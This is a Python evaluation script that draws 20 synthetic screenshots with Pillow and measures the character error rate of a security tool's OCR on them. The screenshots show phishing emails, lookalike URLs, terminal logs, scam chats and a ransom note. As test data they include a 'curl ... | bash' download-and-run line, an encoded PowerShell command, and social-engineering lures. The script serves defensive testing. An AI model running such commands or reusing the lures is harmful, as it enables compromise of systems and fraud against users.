#!/usr/bin/python3
"""make eval: the character error rate of Secura's OCR (secura ocr, the
worker's Tesseract reading of image evidence) on 20 screenshots of known
text drawn here with Pillow in the kinds people attach: an email, a
browser's address bar, a terminal, a chat window. CER = edit distance /
length of the true text, whitespace runs counted as one space. Prints
the figures; asserts nothing. Needs Debian's python3-pil (this runs with
/usr/bin/python3 for it)."""
import os
import subprocess
import sys
import tempfile

from PIL import Image, ImageDraw, ImageFont

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
FONTS = "/usr/share/fonts/truetype/dejavu/"

# (kind, font, size, background, foreground, lines)
SHOTS = [
    ("email", "DejaVuSans.ttf", 18, "white", "black",
     ["From: Payroll Team <payroll@hr-notices.example>", "Subject: Your salary slip for November",
      "Open the attached document and enable editing to view it."]),
    ("email", "DejaVuSerif.ttf", 17, "white", "black",
     ["Dear customer, your parcel could not be delivered.", "Pay the customs fee of 2.99 EUR at",
      "https://parcel-track.example.com/pay?ref=88213"]),
    ("email", "DejaVuSans.ttf", 15, "#f4f4f4", "#222222",
     ["Reply-To: ceo.office@corp-mail.example", "I need you to buy six gift cards today.",
      "Send me the codes by email, it is urgent."]),
    ("email", "DejaVuSans.ttf", 20, "white", "#1a1a1a",
     ["Microsoft 365: unusual sign-in activity", "Location: Lagos, Nigeria  IP: 102.89.34.17",
      "Review the activity at https://account-review.example.org"]),
    ("email", "DejaVuSerif.ttf", 16, "white", "black",
     ["Invoice INV-2026-4471 is overdue.", "Transfer 12,480.00 EUR to IBAN DE89 3704 0044 0532 0130 00",
      "before Friday to avoid a penalty."]),
    ("address bar", "DejaVuSans.ttf", 16, "#eceff1", "#202124",
     ["https://login.microsoftonline.com.session-check.example/common/oauth2"]),
    ("address bar", "DejaVuSans.ttf", 18, "white", "black",
     ["http://203.0.113.45:8080/admin/login.php?redirect=dashboard"]),
    ("address bar", "DejaVuSans.ttf", 15, "#f1f3f4", "#3c4043",
     ["https://docs.google.com.drive-share.example.net/file/d/1AbCdEf/view"]),
    ("address bar", "DejaVuSans.ttf", 17, "white", "#111111",
     ["https://www.paypa1-secure.example/signin?country=FR&locale=fr_FR"]),
    ("address bar", "DejaVuSans.ttf", 14, "#e8eaed", "#202124",
     ["https://vpn.company.example/remote/login?lang=en"]),
    ("terminal", "DejaVuSansMono.ttf", 15, "#1e1e1e", "#d4d4d4",
     ["$ curl -s http://198.51.100.23/x.sh | bash", "Connecting to 198.51.100.23:80... connected.",
      "Saving to: /tmp/.cache/kworker"]),
    ("terminal", "DejaVuSansMono.ttf", 16, "black", "#33ff33",
     ["root@web01:~# last -n 3", "admin    pts/0    185.220.101.4    Sat Dec  5 03:12",
      "admin    pts/1    185.220.101.4    Sat Dec  5 03:09"]),
    ("terminal", "DejaVuSansMono.ttf", 14, "#300a24", "white",
     ["Failed password for invalid user oracle from 45.155.205.10 port 52144 ssh2",
      "Failed password for root from 45.155.205.10 port 52162 ssh2"]),
    ("terminal", "DejaVuSansMono.ttf", 17, "#002b36", "#93a1a1",
     ["PS C:\\Users\\anna> Get-Process | Sort CPU -Descending", "powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AA=="]),
    ("terminal", "DejaVuSansMono.ttf", 15, "black", "#cccccc",
     ["sha256sum invoice.exe", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855  invoice.exe"]),
    ("chat", "DejaVuSans.ttf", 16, "white", "#1d1c1d",
     ["Alex Martin  10:42", "Hi, can you approve the MFA request I just sent you?", "It is for the new laptop setup."]),
    ("chat", "DejaVuSans.ttf", 18, "#f8f8f8", "black",
     ["Unknown number", "Your bank account is locked. Call +44 20 7946 0958 now."]),
    ("chat", "DejaVuSans.ttf", 15, "white", "#333333",
     ["IT Helpdesk (external)", "Please install AnyDesk and send me the 9-digit code.", "We need to fix your mailbox."]),
    ("dialog", "DejaVuSans.ttf", 17, "#fff8e1", "#3e2723",
     ["Your files have been encrypted!", "Send 0.05 BTC to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh",
      "Contact decrypt-help@onionmail.example"]),
    ("dialog", "DejaVuSans.ttf", 16, "white", "black",
     ["Windows Defender Security Warning", "Access to this PC has been blocked for security reasons.",
      "Call Microsoft Support: 1-800-555-0199"]),
]


def norm(s):
    return " ".join(s.split())


def distance(a, b):
    prev = list(range(len(b) + 1))
    for i, ca in enumerate(a, 1):
        cur = [i]
        for j, cb in enumerate(b, 1):
            cur.append(min(prev[j] + 1, cur[j - 1] + 1, prev[j - 1] + (ca != cb)))
        prev = cur
    return prev[-1]


def draw(path, font, size, bg, fg, lines):
    f = ImageFont.truetype(FONTS + font, size)
    width = max(int(f.getlength(line)) for line in lines) + 40
    height = len(lines) * int(size * 1.7) + 30
    img = Image.new("RGB", (width, height), bg)
    d = ImageDraw.Draw(img)
    for i, line in enumerate(lines):
        d.text((20, 15 + i * int(size * 1.7)), line, fill=fg, font=f)
    img.save(path)


def main():
    secura = os.path.join(ROOT, "build", "secura")
    out = tempfile.mkdtemp(prefix="secura-ocr-")
    errors = chars = 0
    kinds = {}
    for n, (kind, font, size, bg, fg, lines) in enumerate(SHOTS):
        path = os.path.join(out, f"{n:02d}.png")
        draw(path, font, size, bg, fg, lines)
        got = subprocess.run([secura, "ocr", path], capture_output=True, text=True).stdout
        truth = norm(" ".join(lines))
        e = distance(norm(got), truth)
        errors += e
        chars += len(truth)
        k = kinds.setdefault(kind, [0, 0])
        k[0] += e
        k[1] += len(truth)
    print(f"  {len(SHOTS)} screenshots, {chars} characters: CER {errors / chars:.4f} (target <= 0.05)")
    for kind, (e, c) in kinds.items():
        print(f"    {kind:<12} CER {e / c:.4f} over {c} characters")


if __name__ == "__main__":
    sys.exit(main())
